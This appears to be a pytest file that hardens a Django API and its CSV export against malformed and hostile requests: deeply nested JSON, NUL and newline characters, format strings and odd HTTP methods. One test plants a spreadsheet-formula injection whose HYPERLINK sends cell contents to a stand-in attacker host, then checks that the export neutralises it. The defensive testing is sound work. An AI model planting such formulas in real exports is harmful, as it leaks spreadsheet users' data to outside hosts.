"""Inputs an attacker or a careless script sends answer a clear 4xx, never a 500 (issue 13, defects 6, 8, 12, 15)."""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from tests.indicators.score_rows import score_run_create, scores_create

pytestmark = pytest.mark.django_db

NESTED = "[" * 1000


@pytest.fixture
def scored(country_a, country_b):
    run = score_run_create()
    scores_create(country=country_a, overall=[40, 45, 50], run=run)
    scores_create(country=country_b, overall=[20, 22, 30], run=run)
    return run


@pytest.fixture
def page_client(victor):
    client = Client(raise_request_exception=False)
    client.force_login(victor)
    return client


@pytest.fixture
def api_clients(persona_clients):
    for client in persona_clients.values():
        client.raise_request_exception = False
    return persona_clients


@pytest.mark.parametrize("sort", [",", ",,", ",,,,"])
def test_an_empty_sort_name_ranks_as_the_default_on_the_api_overview_and_export(api_clients, page_client, scored, sort):
    """`sort=,` and its variants sort as if no order were given, on all three readers of the filter."""
    api = api_clients["victor"].get("/api/v1/scores/", {"sort": sort})
    assert api.status_code == 200
    assert [row["country"]["iso3"] for row in api.json()["results"]] == ["QAA", "QBB"]
    assert page_client.get(reverse("indicators:overview"), {"sort": sort}).status_code == 200
    assert page_client.get(reverse("indicators:overview_export"), {"sort": sort}).status_code == 200


@pytest.mark.parametrize("sort", ["-", "-,", ",-,country", "country,,nonsense"])
def test_a_sort_with_an_unknown_name_answers_400_on_the_api_and_export(api_clients, page_client, scored, sort):
    """A sort naming nothing sortable is refused as a clear 400 (the page shows unsorted and says so), never 500."""
    api = api_clients["victor"].get("/api/v1/scores/", {"sort": sort})
    assert api.status_code == 400
    assert "sort" in api.json()["error"]["fields"]
    assert page_client.get(reverse("indicators:overview"), {"sort": sort}).status_code == 200
    assert page_client.get(reverse("indicators:overview_export"), {"sort": sort}).status_code == 400


def _write_operations(client) -> list[tuple[str, str]]:
    schema = client.get("/api/schema/", {"format": "json"}).json()
    operations = []
    for path, item in schema["paths"].items():
        concrete = re.sub(r"\{iso3\}", "QAA", re.sub(r"\{(id|number|version|code)\}", "1", path))
        operations += [(method, concrete) for method in ("post", "put", "patch") if method in item]
    return operations


def test_a_json_body_nested_a_thousand_deep_answers_400_on_every_api_write(api_clients, country_a):
    """RecursionError never escapes: each write operation refuses the body (or the missing object) with a 4xx."""
    client = api_clients["alice"]
    operations = _write_operations(client)
    assert len(operations) >= 5
    for method, path in operations:
        response = getattr(client, method)(path, data=NESTED, content_type="application/json")
        assert 400 <= response.status_code < 500, (method, path, response.status_code)
        if response.status_code == 400:
            assert "nests too deeply" in response.json()["error"]["message"] or response.json()["error"]["fields"]


def test_a_deeply_nested_bulk_body_is_refused_with_a_message_naming_the_limit(api_clients, country_a):
    """The bulk endpoint says why: the JSON nests too deeply."""
    response = api_clients["alice"].post("/api/v1/assessments/bulk/", data=NESTED, content_type="application/json")
    assert response.status_code == 400
    assert "nests too deeply" in response.json()["error"]["message"]


def test_moderately_nested_json_under_the_recursion_limit_is_refused_too(api_clients, country_a):
    """Depth beyond any real request (but within Python's decoder) is refused before any serializer walks it."""
    body = "[" * 200 + "]" * 200
    response = api_clients["alice"].post("/api/v1/assessments/bulk/", data=body, content_type="application/json")
    assert response.status_code == 400
    assert "nests too deeply" in response.json()["error"]["message"]


@pytest.mark.parametrize("path", ["/api/v1/countries/QA%0A/", "/api/v1/countries/QAA%0A/", "/api/v1/nowhere%0A"])
def test_an_api_path_with_a_newline_answers_the_json_404(api_clients, path):
    """Ids holding a newline get the API's error body, not Django's HTML page."""
    response = api_clients["victor"].get(path)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"]["code"] == "not_found"


@pytest.mark.parametrize("path", ["/api/v1/scores/", "/api/v1/countries/QAA/", "/api/v1/nowhere/"])
def test_trace_answers_405_on_api_paths(api_clients, country_a, path):
    """TRACE is never a supported method; unknown API paths included, it answers 405 rather than 404."""
    response = api_clients["victor"].generic("TRACE", path)
    assert response.status_code == 405


def test_the_overview_export_neutralises_spreadsheet_formulas_in_names(page_client, scored, country_a, desk_a):
    """A name an administrator typed as =HYPERLINK(...) comes out as text, as the API's CSV already did."""
    country_a.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    country_a.save(update_fields=["name"])
    desk_a.name = "@SUM(1+1)"
    desk_a.save(update_fields=["name"])
    response = page_client.get(reverse("indicators:overview_export"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header = rows[0]
    row = next(row for row in rows[1:] if row[0] == "QAA")
    assert row[header.index("name") if "name" in header else 1].startswith("'=HYPERLINK")
    assert "'@SUM(1+1)" in row
    assert not any(cell.startswith(("=", "@", "+")) for line in rows[1:] for cell in line)


@pytest.mark.parametrize("query", ["page_size=0", "page_size=501", "page_size=-3", "page_size=1.5", "page_size=ten"])
def test_a_page_size_outside_the_documented_range_answers_400(api_clients, query):
    """The schema says 1 to 500; anything else is refused, not clamped or ignored."""
    response = api_clients["victor"].get(f"/api/v1/countries/?{query}")
    assert response.status_code == 400
    assert "page_size" in response.json()["error"]["fields"]


def test_a_query_parameter_given_twice_answers_400_naming_it(api_clients):
    """page_size=5&page_size=500 is ambiguous: the API says which parameter was repeated."""
    response = api_clients["victor"].get("/api/v1/countries/?page_size=5&page_size=500")
    assert response.status_code == 400
    assert response.json()["error"]["fields"] == {"page_size": ["Given more than once."]}


def test_an_empty_query_parameter_is_the_same_as_leaving_it_out(api_clients, scored):
    """The schema documents the empty value on every query parameter, and the server treats it as absent."""
    assert api_clients["victor"].get("/api/v1/scores/?region=&page_size=&band=").status_code == 200
    schema = api_clients["victor"].get("/api/schema/", {"format": "json"}).json()
    parameters = {p["name"]: p["schema"] for p in schema["paths"]["/api/v1/scores/"]["get"]["parameters"]}
    assert {"type": "string", "enum": [""]}.items() <= parameters["region"]["anyOf"][1].items()


def test_filter_choices_from_the_database_are_documented_as_enums(api_clients, scored):
    """Regions and desk slugs the server accepts are listed in the schema, so a schema-valid value is never refused."""
    schema = api_clients["victor"].get("/api/schema/", {"format": "json"}).json()
    scores = schema["paths"]["/api/v1/scores/"]["get"]["parameters"]
    parameters = {p["name"]: p["schema"].get("anyOf", [p["schema"]])[0] for p in scores}
    assert "great-lakes" in parameters["desk"]["enum"]
    assert "Asia" in parameters["region"]["enum"]
    indicators = schema["paths"]["/api/v1/indicators/"]["get"]["parameters"]
    risk_factor = next(p["schema"]["anyOf"][0] for p in indicators if p["name"] == "risk_factor")
    assert (risk_factor["minimum"], risk_factor["maximum"]) == (1, 99)


@pytest.mark.parametrize("month", ["0127-01-22", "2999-01-01"])
def test_explaining_a_month_with_no_possible_score_answers_404(api_clients, country_a, month):
    """A well-formed month before 1900 or in the future names a score that does not exist."""
    response = api_clients["victor"].get(f"/api/v1/countries/QAA/explanation/?month={month}")
    assert response.status_code == 404


def test_api_writes_accept_json_only_outside_the_bulk_endpoint(api_clients, country_a):
    """Form and multipart bodies are refused with 415, as the schema documents only JSON for them."""
    response = api_clients["alice"].post("/api/v1/assessments/", {"country": "QAA"}, format="multipart")
    assert response.status_code == 415


@pytest.mark.parametrize("path", ["/api/v1/countries/?format=csv", "/api/v1/scores/?format=csv&page=1"])
def test_an_unsupported_method_with_format_csv_answers_405(api_clients, path):
    """QUERY (or any method a list does not serve) is 405 even when CSV is asked for, not a 404 for the format."""
    assert api_clients["victor"].generic("QUERY", path).status_code == 405


@pytest.mark.parametrize(
    "query",
    ["/api/v1/alerts/?open=-58800", "/api/v1/indicators/?is_retired=maybe", "/api/v1/assessments/?min_severity=0.5"],
)
def test_booleans_and_whole_numbers_outside_their_type_are_refused(api_clients, query):
    """A filter value that is not a boolean or a whole number answers 400 instead of being ignored or rounded."""
    assert api_clients["victor"].get(query).status_code == 400


def test_several_sort_keys_travel_comma_separated(api_clients, scored):
    """sort=a,b is how the schema documents several keys; the same parameter repeated is refused."""
    assert api_clients["victor"].get("/api/v1/scores/?sort=-war_crimes,coverage").status_code == 200
    assert api_clients["victor"].get("/api/v1/scores/?sort=-war_crimes&sort=coverage").status_code == 400


def test_request_bodies_list_the_country_and_indicator_codes_that_exist(api_clients, country_a):
    """A schema-valid body names a country and an indicator the server can find."""
    schema = api_clients["victor"].get("/api/schema/", {"format": "json"}).json()
    write = schema["components"]["schemas"]["AssessmentWriteRequest"]["properties"]
    assert "QAA" in write["country"]["enum"] and "7.4" in write["indicator"]["enum"]


def test_request_bodies_list_the_codes_that_exist_for_a_list_of_countries(api_clients, country_a):
    """An actor's countries are documented as codes the server knows, so a schema-valid actor is not refused."""
    schema = api_clients["victor"].get("/api/schema/", {"format": "json"}).json()
    countries = schema["components"]["schemas"]["ActorWriteRequest"]["properties"]["countries"]
    assert "QAA" in countries["items"]["enum"]


def test_text_query_parameters_document_that_nul_characters_are_refused(api_clients, scored):
    """A NUL character in a text filter answers 400, and the schema says such a value is not valid."""
    schema = api_clients["victor"].get("/api/schema/", {"format": "json"}).json()
    parameters = {p["name"]: p for p in schema["paths"]["/api/v1/assessments/"]["get"]["parameters"]}
    assert parameters["author"]["schema"]["anyOf"][0]["pattern"] == "^[^\\x00]*$"
    assert api_clients["victor"].get("/api/v1/assessments/", {"author": "a\x00b"}).status_code == 400


@pytest.mark.parametrize(
    "query",
    [
        "/api/v1/alerts/?open=%25d",
        "/api/v1/indicators/?is_retired=%2500",
        "/api/v1/assessments/?include_superseded=100%25",
        "/api/v1/escalations/?awaiting_focal_point=%25s",
    ],
)
def test_a_boolean_filter_holding_a_percent_sign_answers_400_naming_the_value(api_clients, query):
    """A percent sign in a boolean filter is refused with the value quoted, not a 500 from formatting the message."""
    response = api_clients["victor"].get(query)
    assert response.status_code == 400
    assert "Give true or false" in response.content.decode()
